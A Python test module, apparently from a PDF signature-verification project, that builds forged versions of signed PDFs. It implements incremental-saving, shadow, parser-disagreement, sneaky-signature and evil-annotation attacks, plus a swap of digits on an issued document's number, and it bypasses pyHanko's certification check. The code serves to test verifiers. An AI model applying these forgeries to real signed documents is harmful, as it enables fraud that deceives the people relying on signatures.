"""Attacks that change what a reader sees after signing while keeping the signature "valid" to a naive
verifier: incremental saving (ISA), shadow objects, parser disagreements, sneaky signatures and evil
annotations (PDF Insecurity research: USF/ISA/SWA 2019, shadow attacks 2021, certification attacks 2021).

Each function takes the bytes of a signed PDF (some take a prepared, "shadowed" PDF before signing) and
returns the manipulated bytes; none touches a file. Most updates are written by hand, byte by byte, because
the point is to produce what a well-behaved writer never would. Test data only.
"""

from __future__ import annotations

import asyncio
import io
import re
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import PdfFileWriter
from pyhanko.sign import fields, signers
from pyhanko.sign.fields import MDPPerm
from pyhanko.stamp import TextStampStyle

from signing.demo.attacks import _font, _page

# The sample's second line and where it sits (signing.demo.attacks.sample_pdf: 12 pt Helvetica from y=770,
# 16 pt leading): the figure an attacker wants to change.
SIGNED_FIGURE = "87%"
FORGED_FIGURE = "99%"
FIGURE_BOX = (180.0, 750.0, 240.0, 766.0)  # around "87%" on line 2
MARGIN_BOX = (480.0, 790.0, 560.0, 830.0)  # top right margin: no text there


# ------------------------------------------------------------------ hand-written incremental updates


@dataclass(frozen=True)
class _Tail:
    root: bytes
    info: bytes | None
    size: int
    startxref: int


def _tail(data: bytes) -> _Tail:
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    root = reader.trailer.raw_get("/Root")
    info = reader.trailer.raw_get("/Info") if "/Info" in reader.trailer else None
    last = reader.xrefs.total_revisions - 1
    return _Tail(
        root=b"%d %d R" % (root.idnum, root.generation),
        info=b"%d %d R" % (info.idnum, info.generation) if isinstance(info, generic.IndirectObject) else None,
        size=int(reader.trailer["/Size"]),
        startxref=reader.xrefs.get_startxref_for_revision(last),
    )


def serialise(obj: generic.PdfObject) -> bytes:
    buf = io.BytesIO()
    obj.write_to_stream(buf, None)
    return buf.getvalue()


def stream_object(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(content), extra) + content + b"\nendstream"


def raw_update(
    data: bytes,
    objects: dict[int, bytes],
    *,
    rows: list[tuple[int, Any]] | None = None,
    trailer: dict[bytes, bytes] | None = None,
    listed: set[int] | None = None,
    startxref_shift: int = 0,
    style: str = "table",
    hybrid_rows: list[tuple[int, Any]] | None = None,
) -> bytes:
    """Append one incremental update (objects, cross-reference data, a trailer) to `data`.

    `rows` overrides the cross-reference entries: (object number, file offset, or "new" for the offset
    written here, or "free", or ("in", object stream, index) in an xref stream), one subsection per row, in that order. `listed` limits the default entries to
    some of the objects. `trailer` adds or replaces trailer keys (b"/Info": b"4 0 R"). `style`: "table", an
    xref "stream", or "hybrid" (a table plus an /XRefStm stream holding `hybrid_rows`).
    """
    tail = _tail(data)
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets: dict[int, int] = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    if rows is None:
        rows = [(n, "new") for n in objects if listed is None or n in listed]
    size = max(tail.size, max(objects, default=0) + 1)
    keys = {b"/Size": b"%d" % size, b"/Root": tail.root}
    if tail.info is not None:
        keys[b"/Info"] = tail.info
    keys[b"/Prev"] = b"%d" % tail.startxref
    keys.update(trailer or {})

    def offset(where: int | str, number: int) -> int:
        return offsets[number] if where == "new" else int(where)

    def xref_stream(number: int, entries: list[tuple[int, Any]], extra: dict[bytes, bytes]) -> None:
        offsets[number] = len(out)
        entries = sorted([*entries, (number, "new")], key=lambda row: row[0])  # subsections must increase
        packed = b"".join(
            b"\x00\x00\x00\x00\x00\x00\x01"
            if where == "free"
            else b"\x02" + where[1].to_bytes(4, "big") + where[2].to_bytes(2, "big")
            if isinstance(where, tuple)
            else b"\x01" + offset(where, n).to_bytes(4, "big") + b"\x00\x00"
            for n, where in entries
        )
        index = b" ".join(b"%d 1" % n for n, _ in entries)
        head = {**extra, b"/Type": b"/XRef", b"/W": b"[1 4 2]", b"/Index": b"[" + index + b"]"}
        out.extend(
            b"%d 0 obj\n" % number
            + stream_object(packed, b" ".join(k + b" " + v for k, v in head.items()) + b" ")
            + b"\nendobj\n"
        )

    if style == "stream":
        number = size
        keys[b"/Size"] = b"%d" % (size + 1)
        xref_stream(number, rows, keys)
        xref_at = offsets[number]
    else:
        if style == "hybrid":
            number = size
            keys[b"/Size"] = b"%d" % (size + 1)
            xref_stream(number, hybrid_rows or [], {b"/Size": keys[b"/Size"]})
            keys[b"/XRefStm"] = b"%d" % offsets[number]
        xref_at = len(out)
        out += b"xref\n0 1\n0000000000 65535 f \n"
        for number, where in rows:
            if where == "free":
                out += b"%d 1\n0000000000 00001 f \n" % number
            else:
                out += b"%d 1\n%010d 00000 n \n" % (number, offset(where, number))
        out += b"trailer\n<< " + b" ".join(k + b" " + v for k, v in keys.items()) + b" >>\n"
    out += b"startxref\n%d\n%%%%EOF\n" % (xref_at + startxref_shift)
    return bytes(out)


def _object_offset(data: bytes, number: int) -> int:
    """Where the newest definition of object `number` starts (read from the cross-reference, not searched)."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    loc = reader.xrefs[generic.Reference(number, 0)]
    if not isinstance(loc, int):
        raise ValueError(f"object {number} is not at a file offset")
    return loc


def _first_page(data: bytes) -> tuple[PdfFileReader, generic.IndirectObject, generic.DictionaryObject]:
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    ref = reader.root["/Pages"].raw_get("/Kids")
    kids = ref.get_object() if isinstance(ref, generic.IndirectObject) else ref
    first = kids.raw_get(0)
    return reader, first, first.get_object()


def _content_ref(data: bytes) -> tuple[int, bytes]:
    """Page 1's content stream: its object number and decoded bytes."""
    _, _, page = _first_page(data)
    ref = page.raw_get("/Contents")
    if not isinstance(ref, generic.IndirectObject):
        raise ValueError("page 1 has no single content stream")
    return ref.idnum, ref.get_object().data


def forged_content(signed_content: bytes) -> bytes:
    """Page content with the signed figure replaced (or, for other documents, a line of text added)."""
    if SIGNED_FIGURE.encode() in signed_content:
        return signed_content.replace(SIGNED_FIGURE.encode(), FORGED_FIGURE.encode())
    return signed_content + b"\nBT /F1 12 Tf 72 60 Td (SUA SAU KHI KY) Tj ET"


# ------------------------------------------------------------------ parser disagreements


def duplicate_xref_entry(signed: bytes) -> bytes:
    """Rewrite page 1's content and list it twice in one xref table: forged first, signed second. pyHanko keeps
    the last entry (the unchanged object), poppler and PDFium the first."""
    number, content = _content_ref(signed)
    old = _object_offset(signed, number)
    return raw_update(
        signed, {number: stream_object(forged_content(content))}, rows=[(number, "new"), (number, old)]
    )


def endstream_trick(signed: bytes) -> bytes:
    """Redefine page 1's content stream with its signed bytes, `endstream`, then forged operators, and /Length
    given twice: pyHanko takes the first (the signed bytes), poppler the last (everything)."""
    number, content = _content_ref(signed)
    extra = (
        b"\nendstream\nq 1 1 1 rg 175 748 70 18 re f Q BT /F1 12 Tf 180 754 Td ("
        + FORGED_FIGURE.encode()
        + b") Tj ET"
    )
    body = content + extra
    obj = b"<< /Length %d /Length %d >>\nstream\n" % (len(content), len(body)) + body + b"\nendstream"
    return raw_update(signed, {number: obj})


def duplicate_key(signed: bytes) -> bytes:
    """Redefine page 1 with /Contents given twice: the signed stream first (what pyHanko reads), a forged
    one last (what poppler reads)."""
    reader, ref, page = _first_page(signed)
    number, content = _content_ref(signed)
    new_number = int(reader.trailer["/Size"])
    body = serialise(page)[:-2].rstrip() + b"\n/Contents %d 0 R\n>>" % new_number
    return raw_update(signed, {ref.idnum: body, new_number: stream_object(forged_content(content))})


def objstm_index(signed: bytes) -> bytes:
    """Put page 1 in a new object stream twice, the signed copy first and one pointing at forged content
    second, and give the second's index in the xref stream: pyHanko finds the object by number (the signed
    copy), poppler by index (the forged one)."""
    reader, ref, page = _first_page(signed)
    number, content = _content_ref(signed)
    size = int(reader.trailer["/Size"])
    forged_number, stm_number = size, size + 1
    signed_page = serialise(page)
    forged_page = signed_page.replace(b"/Contents %d 0 R" % number, b"/Contents %d 0 R" % forged_number)
    if forged_page == signed_page:
        raise ValueError("page 1's /Contents not found")
    first_obj = signed_page + b"\n"
    header = b"%d 0 %d %d " % (ref.idnum, ref.idnum, len(first_obj))
    body = header + first_obj + forged_page
    objstm = stream_object(body, b"/Type /ObjStm /N 2 /First %d " % len(header))
    return raw_update(
        signed,
        {forged_number: stream_object(forged_content(content)), stm_number: objstm},
        rows=[(forged_number, "new"), (stm_number, "new"), (ref.idnum, ("in", stm_number, 1))],
        style="stream",
    )


# ------------------------------------------------------------------ incremental saving attacks (ISA)


def isa_unlisted_object(signed: bytes) -> bytes:
    """An update that writes a forged content stream but leaves it out of its xref table, and points startxref
    a few bytes off: readers that rebuild the cross-reference take the forged object, pyHanko corrects the
    pointer and never sees it."""
    number, content = _content_ref(signed)
    return raw_update(
        signed, {number: stream_object(forged_content(content))}, listed=set(), startxref_shift=-3
    )


def isa_body_only(signed: bytes) -> bytes:
    """ISA without a cross-reference table: a forged object and a trailer appended after the signed file,
    startxref pointing at the object. Readers rebuild the file by scanning it and take the forged object."""
    tail = _tail(signed)
    number, content = _content_ref(signed)
    body = signed + b"\n%d 0 obj\n" % number + stream_object(forged_content(content)) + b"\nendobj\n"
    trailer = b"trailer\n<< /Size %d /Root %s /Prev %d >>\n" % (tail.size, tail.root, tail.startxref)
    return body + trailer + b"startxref\n%d\n%%%%EOF\n" % (len(signed) + 1)


def isa_new_revision(signed: bytes) -> bytes:
    """The plain ISA: an update redefining page 1's content stream, with a correct xref table."""
    number, content = _content_ref(signed)
    return raw_update(signed, {number: stream_object(forged_content(content))})


# ------------------------------------------------------------------ shadow attacks (prepared before signing)

SHADOW_NUMBER = 900  # an object number the prepared document refers to but does not define


def shadowed_pdf(kind: str) -> bytes:
    """The attacker's document handed over for signing: page 1 refers to object 900, which does not exist yet.
    `kind` "xobject": the content draws /Fx9 (nothing, while 900 is undefined); "annotation": /Annots [900 0 R].
    """
    writer = PdfFileWriter()
    page = _page(
        writer,
        [
            "BAO CAO KET QUA CHUYEN DOI SO NAM 2026",
            "Ty le ho so truc tuyen: 87%",
            "So thu tuc hanh chinh: 120",
        ],
    )
    dangling = generic.IndirectObject(SHADOW_NUMBER, 0, writer)
    if kind == "xobject":
        page["/Resources"][generic.NameObject("/XObject")] = generic.DictionaryObject(
            {generic.NameObject("/Fx9"): dangling}
        )
        content = page["/Contents"].data + b"\nq /Fx9 Do Q"
        page[generic.NameObject("/Contents")] = writer.add_object(generic.StreamObject(stream_data=content))
    elif kind == "annotation":
        page[generic.NameObject("/Annots")] = generic.ArrayObject([dangling])
    else:
        raise ValueError(kind)
    writer.insert_page(page)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def _figure_form(text: str = f"Ty le ho so truc tuyen: {FORGED_FIGURE}") -> bytes:
    ops = b"q 1 1 1 rg 70 750 300 16 re f Q BT /F1 12 Tf 72 754 Td (" + text.encode() + b") Tj ET"
    font = serialise(_font())
    extra = (
        b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 " + font + b" >> >> "
    )
    return stream_object(ops, extra)


def reveal_shadow_xobject(signed: bytes) -> bytes:
    """Define object 900 after signing: a form XObject painting over the signed figure."""
    return raw_update(signed, {SHADOW_NUMBER: _figure_form()})


def reveal_shadow_annotation(signed: bytes) -> bytes:
    """Define object 900 after signing: a free-text annotation showing another figure over the signed one."""
    appearance_number = SHADOW_NUMBER + 1
    ap = _figure_form().replace(b"/BBox [0 0 595 842]", b"/BBox [0 0 595 842] /Matrix [1 0 0 1 -70 -748]")
    annot = (
        b"<< /Type /Annot /Subtype /FreeText /Rect [70 748 370 768] /F 4 /DA (/Helv 12 Tf 0 g) "
        b"/Contents (Ty le ho so truc tuyen: " + FORGED_FIGURE.encode() + b") "
        b"/AP << /N %d 0 R >> >>" % appearance_number
    )
    return raw_update(signed, {SHADOW_NUMBER: annot, appearance_number: ap})


# ------------------------------------------------------------------ trailer steering


def info_steering(signed: bytes) -> bytes:
    """Point the trailer's /Info at page 1's content stream in one update; in the next, replace that stream
    and add a comment in the margin, so the content change passes for a document-information update."""
    number, content = _content_ref(signed)
    first = raw_update(signed, {}, trailer={b"/Info": b"%d 0 R" % number})
    second = raw_update(
        first, {number: stream_object(forged_content(content))}, trailer={b"/Info": b"%d 0 R" % number}
    )
    return margin_note(second)


# ------------------------------------------------------------------ annotations, fields and signatures


def margin_note(signed: bytes, box: tuple[float, float, float, float] = MARGIN_BOX) -> bytes:
    """A reviewer's free-text comment in the top margin, away from the signed text: a genuine comment."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
    page_ref = writer.prev.root["/Pages"]["/Kids"][0]
    page = page_ref.get_object()
    x0, y0, x1, y1 = box
    appearance = generic.StreamObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/XObject"),
            generic.NameObject("/Subtype"): generic.NameObject("/Form"),
            generic.NameObject("/BBox"): generic.ArrayObject(
                [generic.FloatObject(v) for v in (0, 0, x1 - x0, y1 - y0)]
            ),
            generic.NameObject("/Resources"): generic.DictionaryObject(
                {
                    generic.NameObject("/Font"): generic.DictionaryObject(
                        {generic.NameObject("/F1"): writer.add_object(_font())}
                    )
                }
            ),
        },
        stream_data=b"BT 0 0 1 rg /F1 9 Tf 2 %d Td (Da xem) Tj ET" % int((y1 - y0) / 2),
    )
    annot = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject("/FreeText"),
            generic.NameObject("/Rect"): generic.ArrayObject([generic.FloatObject(v) for v in box]),
            generic.NameObject("/Contents"): generic.TextStringObject("Da xem"),
            generic.NameObject("/DA"): generic.TextStringObject("/Helv 9 Tf 0 0 1 rg"),
            generic.NameObject("/F"): generic.NumberObject(4),
            generic.NameObject("/AP"): generic.DictionaryObject(
                {generic.NameObject("/N"): writer.add_object(appearance)}
            ),
            generic.NameObject("/P"): page_ref,
        }
    )
    ref = writer.add_object(annot)
    annots = page.get("/Annots")
    arr = generic.ArrayObject(list(annots) if annots else [])
    arr.append(ref)
    page[generic.NameObject("/Annots")] = arr
    writer.update_container(page)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def empty_signature_field(signed: bytes, box: tuple[float, float, float, float] = FIGURE_BOX) -> bytes:
    """A new, unsigned signature field over the signed figure, whose appearance shows another figure."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
    fields.append_signature_field(writer, fields.SigFieldSpec("ChuKyBoSung", box=box, on_page=0))  # type: ignore[arg-type]
    x0, y0, x1, y1 = box
    appearance = writer.add_object(
        generic.StreamObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/XObject"),
                generic.NameObject("/Subtype"): generic.NameObject("/Form"),
                generic.NameObject("/BBox"): generic.ArrayObject(
                    [generic.FloatObject(v) for v in (0, 0, x1 - x0, y1 - y0)]
                ),
                generic.NameObject("/Resources"): generic.DictionaryObject(
                    {
                        generic.NameObject("/Font"): generic.DictionaryObject(
                            {generic.NameObject("/F1"): writer.add_object(_font())}
                        )
                    }
                ),
            },
            stream_data=b"1 1 1 rg 0 0 %g %g re f BT 0 g /F1 12 Tf 1 4 Td (%s) Tj ET"
            % (x1 - x0, y1 - y0, FORGED_FIGURE.encode()),
        )
    )
    for ref in writer.root["/AcroForm"]["/Fields"]:
        widget = ref.get_object()
        if widget.get("/T") == "ChuKyBoSung":
            widget[generic.NameObject("/AP")] = generic.DictionaryObject(
                {generic.NameObject("/N"): appearance}
            )
            writer.update_container(widget)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


class _AnySigner(signers.PdfSigner):
    """pyHanko refuses to sign a document certified "no changes"; an attacker's tool does not."""

    def _enforce_certification_constraints(self, reader: PdfFileReader) -> None:
        return None


def sneaky_signature(
    signed: bytes,
    signer: signers.Signer,
    *,
    box: tuple[float, float, float, float] = FIGURE_BOX,
    field_name: str = "ChuKyThuHai",
    text: str = FORGED_FIGURE,
) -> bytes:
    """A later, trusted signature whose visible appearance covers the first signer's figure (SSA)."""
    style = TextStampStyle(stamp_text=text.replace("%", "%%"), border_width=0, background=None)
    meta = signers.PdfSignatureMetadata(field_name=field_name, subfilter=fields.SigSeedSubFilter.PADES)
    pdf_signer = _AnySigner(
        meta,
        signer=signer,
        stamp_style=style,
        new_field_spec=fields.SigFieldSpec(field_name, box=box, on_page=0),  # type: ignore[arg-type]
    )
    out = io.BytesIO()
    asyncio.run(
        pdf_signer.async_sign_pdf(IncrementalPdfFileWriter(io.BytesIO(signed), strict=False), output=out)
    )
    return out.getvalue()


def certify(data: bytes, signer: signers.Signer, permission: MDPPerm) -> bytes:
    """A certifying (DocMDP) signature with the given permission level: P=1 no changes, P=2 form filling and
    signing, P=3 also comments."""
    meta = signers.PdfSignatureMetadata(
        field_name="ChungThuc",
        subfilter=fields.SigSeedSubFilter.PADES,
        certify=True,
        docmdp_permissions=permission,
    )
    out = io.BytesIO()
    pdf_signer = signers.PdfSigner(meta, signer=signer)
    asyncio.run(
        pdf_signer.async_sign_pdf(IncrementalPdfFileWriter(io.BytesIO(data), strict=False), output=out)
    )
    return out.getvalue()


def evil_annotation(signed: bytes) -> bytes:
    """EAA: a free-text annotation laid over the signed figure, showing another figure."""
    from signing.demo.attacks import overlay_annotation

    return overlay_annotation(signed)


# ------------------------------------------------------------------ the NĐ 30 issued document


def swap_issued_number(issued: bytes, field_name: str = "SoVanBan") -> bytes:
    """On an issued document, rewrite the number field's appearance with its two digits swapped ("01" shows
    as "10") and list the appearance twice in the xref table: pyHanko reads the issued number, poppler the
    forged one."""
    reader = PdfFileReader(io.BytesIO(issued), strict=False)
    for ref in reader.root["/AcroForm"]["/Fields"]:
        obj = ref.get_object()
        if obj.get("/T") == field_name:
            ap_ref = obj["/AP"].raw_get("/N")
            break
    else:
        raise ValueError(f"no field {field_name}")
    stream = ap_ref.get_object()
    ops = stream.data
    m = re.search(rb"<([0-9A-Fa-f]{4})([0-9A-Fa-f]{4})>", ops)
    if m:  # two glyphs in one string: swap them
        ops = ops[: m.start()] + b"<" + m.group(2) + m.group(1) + b">" + ops[m.end() :]
    else:
        strings = list(re.finditer(rb"<([0-9A-Fa-f]{4})>", ops))
        if len(strings) < 2:
            raise ValueError("number appearance not recognised")
        a, b = strings[0], strings[1]
        ops = ops[: a.start(1)] + b.group(1) + ops[a.end(1) : b.start(1)] + a.group(1) + ops[b.end(1) :]
    # Text extraction reads the /ActualText of the marked content: swap it too.
    ops = re.sub(rb"/ActualText \((\d)(\d)\)", rb"/ActualText (\2\1)", ops)
    if ops == stream.data:
        raise ValueError("nothing to swap")
    head = {k: v for k, v in stream.items() if k not in ("/Length", "/Filter", "/DecodeParms")}
    packed = zlib.compress(ops)
    extra = b" ".join(serialise(k) + b" " + serialise(v) for k, v in head.items()) + b" /Filter /FlateDecode "
    obj_bytes = stream_object(packed, extra)
    old = _object_offset(issued, ap_ref.idnum)
    return raw_update(issued, {ap_ref.idnum: obj_bytes}, rows=[(ap_ref.idnum, "new"), (ap_ref.idnum, old)])


# ------------------------------------------------------------------ many harmless updates (for timing)


def many_updates(signed: bytes, count: int) -> bytes:
    """`count` updates after the signature, each writing a new document-information dictionary, as a viewer
    that saves incrementally would: harmless, but every one of them has to be analysed."""
    tail = _tail(signed)
    out = bytearray(signed if signed.endswith(b"\n") else signed + b"\n")
    prev = tail.startxref
    size = tail.size
    for i in range(count):
        number = size
        size += 1
        at = len(out)
        out += b"%d 0 obj\n<< /Producer (luu lan %d) >>\nendobj\n" % (number, i + 1)
        xref_at = len(out)
        out += b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (number, at)
        out += b"trailer\n<< /Size %d /Root %s /Info %d 0 R /Prev %d >>\n" % (size, tail.root, number, prev)
        out += b"startxref\n%d\n%%%%EOF\n" % xref_at
        prev = xref_at
    return bytes(out)


# ------------------------------------------------------------------ catalogue for the tests and the bench

SIGNED_ONLY: dict[str, Callable[[bytes], bytes]] = {
    "duplicate_xref_entry": duplicate_xref_entry,
    "endstream_trick": endstream_trick,
    "duplicate_key": duplicate_key,
    "objstm_index": objstm_index,
    "isa_unlisted_object": isa_unlisted_object,
    "isa_body_only": isa_body_only,
    "isa_new_revision": isa_new_revision,
    "info_steering": info_steering,
    "empty_signature_field": empty_signature_field,
    "evil_annotation": evil_annotation,
}

__all__ = [
    "FIGURE_BOX",
    "FORGED_FIGURE",
    "MARGIN_BOX",
    "SIGNED_FIGURE",
    "SIGNED_ONLY",
    "certify",
    "margin_note",
    "raw_update",
    "reveal_shadow_annotation",
    "reveal_shadow_xobject",
    "shadowed_pdf",
    "sneaky_signature",
    "swap_issued_number",
]
